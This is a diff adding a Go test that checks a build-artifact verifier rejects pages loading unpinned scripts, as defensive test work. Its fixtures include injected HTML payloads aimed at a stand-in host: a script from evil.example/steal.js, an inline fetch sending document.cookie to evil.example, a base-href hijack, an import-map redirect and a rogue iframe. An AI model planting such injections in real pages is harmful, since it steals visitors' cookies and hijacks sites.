@@ -1,6 +1,8 @@
 package cli_test
 
 import (
+	"fmt"
+	"io"
 	"net/http"
 	"net/http/httptest"
 	"path"
@@ -116,6 +118,73 @@ func TestSiteModeSkeleton(t *testing.T) {
 				if !strings.Contains(res.stdout, "excluded build-time.txt") {
 					t.Errorf("the summary does not list the excluded file:\n%s", res.stdout)
 				}
+			}
+		})
+	}
+}
+
+// TestPageModeAccounting: in page mode (--page-url with --artifact) every
+// script or style the page loads must be accounted for too, or the run
+// fails with unverified-subresource; none of these is ever verified.
+func TestPageModeAccounting(t *testing.T) {
+	t.Parallel()
+	w := getWorld(t)
+	bundle := sign(t, w, artifact, goodID(w))
+	pin := fmt.Sprintf(`<script type="module" integrity="%s" src="/%s"></script>`, sri384(artifact), artifactName)
+	for _, tc := range []struct {
+		name   string
+		page   string
+		extra  []string
+		code   int
+		reason string
+	}{
+		{name: "only the pinned artifact", page: pin, code: cli.ExitVerified, reason: "ok"},
+		{name: "an injected script without integrity", page: pin + `<script src="https://evil.example/steal.js"></script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "an injected inline script", page: pin + `<script>fetch("https://evil.example/?"+document.cookie)</script>`, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "an injected event handler", page: `<body onload="steal()">` + pin, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "an inline script accepted with allow-inline is skipped, not silent", page: pin + `<script>console.log(1)</script>`, extra: []string{"--allow-inline"}, code: cli.ExitVerified, reason: "ok"},
+		{name: "a base that moves the artifact elsewhere", page: `<base href="https://evil.example/">` + pin, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "a meta refresh away", page: pin + `<meta http-equiv="refresh" content="0;url=https://evil.example/">`, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "an import map pointing elsewhere", page: `<script type="importmap">{"imports":{"kms":"https://evil.example/kms.mjs"}}</script>` + pin, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "an unlisted cross-origin iframe", page: pin + `<iframe src="https://evil.example/frame.html"></iframe>`, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "a listed cross-origin iframe", page: pin + `<iframe src="https://enclave.example.net/kms.html"></iframe>`, extra: []string{"--allow-frame", "https://enclave.example.net"}, code: cli.ExitVerified, reason: "ok"},
+		{name: "an allow-listed script pinned as required", page: pin + `<script src="https://cdn.example.net/lib.js" integrity="sha384-AAAA" crossorigin></script>`,
+			extra: []string{"--allow-subresource", "https://cdn.example.net/lib.js sha384-AAAA"}, code: cli.ExitVerified, reason: "ok"},
+		{name: "an allow-listed script without the required pin", page: pin + `<script src="https://cdn.example.net/lib.js"></script>`,
+			extra: []string{"--allow-subresource", "https://cdn.example.net/lib.js sha384-AAAA"}, code: cli.ExitFailed, reason: "unverified-subresource"},
+		{name: "a mismatching pin in inert markup is not a failure", page: pin + `<template><script src="/x.js" integrity="sha384-bad"></script></template><script type="text/plain" src="/y.js" integrity="sha384-bad"></script><!-- <script src="https://evil.example/z.js"></script> -->`,
+			code: cli.ExitVerified, reason: "ok"},
+		{name: "an import map pin applies to a bare module script", page: fmt.Sprintf(`<script type="importmap">{"integrity":{"/%s":"%s"}}</script><script type="module" src="/%s"></script>`, artifactName, sri384(artifact), artifactName),
+			code: cli.ExitVerified, reason: "ok"},
+		{name: "a modulepreload pin applies to a bare module script", page: fmt.Sprintf(`<link rel="modulepreload" href="/%s" integrity="%s"><script type="module" src="/%s"></script>`, artifactName, sri384(artifact), artifactName),
+			code: cli.ExitVerified, reason: "ok"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+				if r.URL.Path == "/kms.html" {
+					_, _ = io.WriteString(rw, "<!doctype html>"+tc.page)
+					return
+				}
+				_, _ = rw.Write(artifact)
+			}))
+			t.Cleanup(srv.Close)
+			args := []string{"verify", "--repo", w.repo.Dir, "--tag", tag, "--build-command", "sh build.sh",
+				"--artifact", "dist/kms.*.js", "--url", srv.URL + "/" + artifactName, "--page-url", srv.URL + "/kms.html",
+				"--trusted-root", w.rootFile, "--signer-repo", signerRepo, "--signer-workflow", workflow, "--bundle", bundle}
+			res := run(t, runOpts{}, append(args, tc.extra...)...)
+			if res.code != tc.code || res.rep == nil || res.rep.Reason != tc.reason {
+				reason := ""
+				if res.rep != nil {
+					reason = res.rep.Reason
+				}
+				t.Fatalf("exit %d reason %q, want %d %q\n%s%s", res.code, reason, tc.code, tc.reason, res.stdout, res.stderr)
+			}
+			if tc.code != cli.ExitVerified && strings.Contains(res.stdout, "VERIFICATION PASSED") {
+				t.Error("a failing run says PASSED")
+			}
+			if len(res.rep.Page.References) == 0 {
+				t.Error("the report lists no page references")
 			}
 		})
 	}
